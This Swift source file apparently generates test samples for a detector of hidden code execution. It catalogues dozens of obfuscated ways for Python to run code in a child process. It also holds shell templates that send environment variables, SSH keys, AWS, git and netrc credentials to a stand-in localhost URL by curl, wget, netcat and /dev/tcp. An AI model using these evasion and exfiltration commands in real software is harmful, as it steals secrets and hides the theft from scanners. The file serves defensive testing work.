import TestSupport

extension Family {
  /// Code that runs in a child: another interpreter, a written file, a shell.
  static let processes = Family(
    name: "processes",
    techniques: [
      child("python -c", "subprocess.run([sys.executable, \"-S\", \"-c\", {code}])"),
      child(
        "python -c, detached",
        "subprocess.Popen([sys.executable, \"-S\", \"-c\", {code}], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)"
      ),
      child("python -c with a name of its own", "subprocess.call([\"python3\", \"-S\", \"-c\", {code}])"),
      child(
        "python -c of base64",
        "subprocess.Popen([sys.executable, \"-S\", \"-c\", \"import base64;exec(base64.b64decode('{base64}'))\"])"),
      child("python -c in a shell", "os.system(sys.executable + \" -S -c \" + __import__(\"shlex\").quote({code}))"),
      child("python -c through os.popen", "os.popen(\"python3 -S -c \\\"exec(bytes.fromhex('{hex}'))\\\"\").read()"),
      child("standard input", "subprocess.run([sys.executable, \"-S\"], input={code}.encode())"),
      child("standard input, with -", "subprocess.run([sys.executable, \"-S\", \"-\"], input={code}, text=True)"),
      child(
        "standard input by communicate",
        "{a} = subprocess.Popen([sys.executable, \"-S\", \"-\"], stdin=subprocess.PIPE)\n{a}.communicate({code}.encode())"
      ),
      child(
        "standard input by write",
        "{a} = subprocess.Popen([sys.executable, \"-S\", \"-\"], stdin=subprocess.PIPE)\n{a}.stdin.write({code}.encode())\n{a}.stdin.close()\n{a}.wait()"
      ),
      child("os.execv", "if os.fork() == 0:\n    os.execv(sys.executable, [sys.executable, \"-S\", \"-c\", {code}])"),
      child("os.spawnl", "os.spawnl(os.P_WAIT, sys.executable, sys.executable, \"-S\", \"-c\", {code})"),
      child("os.posix_spawn", "os.posix_spawn(sys.executable, [sys.executable, \"-S\", \"-c\", {code}], os.environ)"),
      child(
        "asyncio's subprocess",
        "import asyncio\nasync def {a}():\n    {b} = await asyncio.create_subprocess_exec(sys.executable, \"-S\", \"-c\", {code})\n    await {b}.wait()\nasyncio.run({a}())"
      ),
      child("pty.spawn", "import pty\npty.spawn([sys.executable, \"-S\", \"-c\", {code}])"),
      child(
        "a child's environment",
        "subprocess.run([sys.executable, \"-S\", \"-c\", \"import os;exec(os.environ['{a}'])\"], env=dict(os.environ, {a}={code}))"
      ),
      child(
        "an argument of the child",
        "subprocess.run([sys.executable, \"-S\", \"-c\", \"import sys;exec(sys.argv[1])\", {code}])"),
      child(
        "a written file",
        "with open(\"/tmp/{a}.py\", \"w\") as f:\n    f.write({code})\nsubprocess.run([sys.executable, \"-S\", \"/tmp/{a}.py\"])"
      ),
      child(
        "a temporary file",
        "import tempfile\nwith tempfile.NamedTemporaryFile(\"w\", suffix=\".py\", delete=False) as f:\n    f.write({code})\nsubprocess.run([sys.executable, \"-S\", f.name])"
      ),
      child(
        "a file in a temporary directory",
        "import tempfile\n{a} = os.path.join(tempfile.mkdtemp(), \"{b}.py\")\nopen({a}, \"w\").write({code})\nos.system(sys.executable + \" -S \" + {a})"
      ),
      child(
        "pathlib's write_text",
        "import pathlib\n{a} = pathlib.Path(\"/tmp/{b}.py\")\n{a}.write_text({code})\nsubprocess.Popen([sys.executable, \"-S\", str({a})])"
      ),
      child(
        "a written file that is imported",
        "import importlib\nopen(\"/tmp/{a}.py\", \"w\").write({code})\nsys.path.insert(0, \"/tmp\")\nimportlib.import_module(\"{a}\")"
      ),
      child(
        "a written file that runpy runs",
        "import runpy\nopen(\"/tmp/{a}.py\", \"w\").write({code})\nrunpy.run_path(\"/tmp/{a}.py\")"),
      child(
        "a written file that exec reads", "open(\"/tmp/{a}\", \"w\").write({code})\nexec(open(\"/tmp/{a}\").read())"),
      child(
        "a written zip application",
        "import zipfile\nwith zipfile.ZipFile(\"/tmp/{a}.pyz\", \"w\") as z:\n    z.writestr(\"__main__.py\", {code})\nsubprocess.run([sys.executable, \"-S\", \"/tmp/{a}.pyz\"])"
      ),
      child("a here document", "os.system(\"python3 -S - <<'EOF'\\n\" + {code} + \"\\nEOF\\n\")"),
      child("a pipe into python", "os.system(\"echo {base64} | base64 -d | python3 -S\")"),
      child("a pipe of hex into python", "subprocess.run(\"printf %s {hex} | xxd -r -p | python3 -S -\", shell=True)"),
      child(
        "a shell's variable",
        "os.system(\"{a}={base64}; python3 -S -c \\\"import base64; exec(base64.b64decode('${a}'))\\\"\")"),
      child("bash -c and eval", "subprocess.run([\"bash\", \"-c\", \"eval \\\"$(echo {shell64} | base64 -d)\\\"\"])"),
      child(
        "multiprocessing with spawn",
        "import multiprocessing\nmultiprocessing.get_context(\"fork\").Process(target=exec, args=({code},)).start()"),
      sibling(
        "python -m of the package", "py",
        "if \"{b}\" not in os.environ:\n    os.environ[\"{b}\"] = \"1\"\n    subprocess.run([sys.executable, \"-m\", \"{home}.{a}\"])"
      ),
      sibling(
        "python of a sibling", "py",
        "subprocess.run([sys.executable, \"-S\", os.path.join(os.path.dirname(os.path.abspath(__file__)), \"{a}.py\")])"
      ),
      sibling(
        "python of a sibling with another suffix", "dat",
        "subprocess.Popen([sys.executable, \"-S\", os.path.join(os.path.dirname(os.path.abspath(__file__)), \"{a}.dat\")])"
      ),
      sibling(
        "a sibling on standard input", "txt",
        "subprocess.run([sys.executable, \"-S\", \"-\"], stdin=open(os.path.join(os.path.dirname(__file__), \"{a}.txt\")))"
      ),
      sibling(
        "a copied sibling", "txt",
        "import shutil\nshutil.copyfile(os.path.join(os.path.dirname(__file__), \"{a}.txt\"), \"/tmp/{a}.py\")\nsubprocess.run([sys.executable, \"-S\", \"/tmp/{a}.py\"])"
      ),
      zipped(
        "a zip application beside the module", "pyz",
        "subprocess.run([sys.executable, \"-S\", os.path.join(os.path.dirname(os.path.abspath(__file__)), \"{a}.pyz\")])"
      ),
      zipped(
        "an extracted archive", "zip",
        "import tempfile, zipfile\n{b} = tempfile.mkdtemp()\nzipfile.ZipFile(os.path.join(os.path.dirname(__file__), \"{a}.zip\")).extractall({b})\nsubprocess.run([sys.executable, \"-S\", os.path.join({b}, \"__main__.py\")])"
      ),
      shell("env into curl", "env | curl -s -d @- {url}"),
      shell("printenv into wget", "wget -q --post-data=\"$(printenv)\" {url}"),
      shell("a file by curl", "curl -s -F f=@$HOME/.aws/credentials {url}"),
      shell("tar into curl", "tar czf - ~/.ssh 2>/dev/null | curl -s --data-binary @- {url}"),
      shell("base64 of a file in a query", "curl -s \"{url}?k=$(base64 -w0 ~/.ssh/id_rsa)\""),
      shell("netcat", "cat ~/.netrc ~/.pypirc | nc 127.0.0.1 {port}"),
      shell("/dev/tcp", "bash -c 'cat ~/.git-credentials > /dev/tcp/127.0.0.1/{port}'"),
      shell("openssl before curl", "env | openssl enc -aes-256-cbc -pbkdf2 -pass pass:{a} | curl -s -T - {url}"),
      shell("a loop over files", "for f in ~/.ssh/id_* ~/.kube/config; do curl -s -T \"$f\" {url}; done"),
      shell("a file between two commands", "env > /tmp/{a}; gzip /tmp/{a}; curl -s -T /tmp/{a}.gz {url}"),
      shell("a command in base64", "echo {command64} | base64 -d | sh"),
      shell("a command written backwards", "echo '{reversed}' | rev | sh"),
      shell("variables for words", "{a}=cu; {b}=rl; env | ${a}${b} -s -d @- {url}"),
    ])

  private static let imports = "import os, subprocess, sys\n"

  /// Code given to another interpreter.
  private static func child(_ name: String, _ frame: String) -> Technique {
    Technique(name) { plot in
      var text = frame.replacing("{a}", with: plot.scene.word()).replacing("{b}", with: plot.scene.word())
      let shellCode = "python3 -S -c \"import base64;exec(base64.b64decode('\(Encoder.base64(bytes(plot.body)))'))\""
      for (hole, value) in [
        ("{code}", Python.string(plot.body)), ("{base64}", Encoder.base64(bytes(plot.body))),
        ("{hex}", Encoder.hex(bytes(plot.body))), ("{shell64}", Encoder.base64(bytes(shellCode))),
      ] {
        text = text.replacing(hole, with: value)
      }
      return Code(imports + text + "\n")
    }
  }

  /// Another member that an interpreter runs.
  private static func sibling(_ name: String, _ suffix: String, _ frame: String) -> Technique {
    member(name, suffix, frame) { bytes($0) }
  }

  private static func zipped(_ name: String, _ suffix: String, _ frame: String) -> Technique {
    member(name, suffix, frame) { ZipBuilder([("__main__.py", bytes($0))]).build() }
  }

  private static func member(
    _ name: String, _ suffix: String, _ frame: String, _ pack: @escaping @Sendable (String) -> [UInt8]
  ) -> Technique {
    Technique(name) { plot in
      let (a, b) = (plot.scene.word(), plot.scene.word())
      let text = frame.replacing("{a}", with: a).replacing("{b}", with: b).replacing("{home}", with: plot.home)
      return Code(imports + text + "\n", files: [("\(a).\(suffix)", pack(plot.body))])
    }
  }

  /// A command line; the twin takes it apart and runs nothing.
  private static func shell(_ name: String, _ command: String) -> Technique {
    Technique(name, twin: .idle) { plot in
      let port = plot.scene.pick(Scene.ports)
      let url = "http://127.0.0.1:\(port)/\(plot.scene.word())"
      let inner = "env | curl -s -d @- \(url)"
      var text = command.replacing("{a}", with: plot.scene.word()).replacing("{b}", with: plot.scene.word())
      for (hole, value) in [
        ("{url}", url), ("{port}", "\(port)"), ("{command64}", Encoder.base64(bytes(inner))),
        ("{reversed}", String(inner.reversed())),
      ] {
        text = text.replacing(hole, with: value)
      }
      let name = plot.scene.word()
      let ways = [
        "os.system({x})", "subprocess.run({x}, shell=True)", "subprocess.Popen([\"sh\", \"-c\", {x}])",
        "os.popen({x}).read()", "subprocess.getoutput({x})", "subprocess.check_output([\"/bin/sh\", \"-c\", {x}])",
      ]
      let run = plot.scene.pick(ways).replacing("{x}", with: name)
      return Code(
        imports + "\(name) = \(Python.string(text))\n"
          + (plot.isHarmful ? run : "\(name) = (len(\(name).split()), os.system.__name__, subprocess.DEVNULL)") + "\n")
    }
  }
}
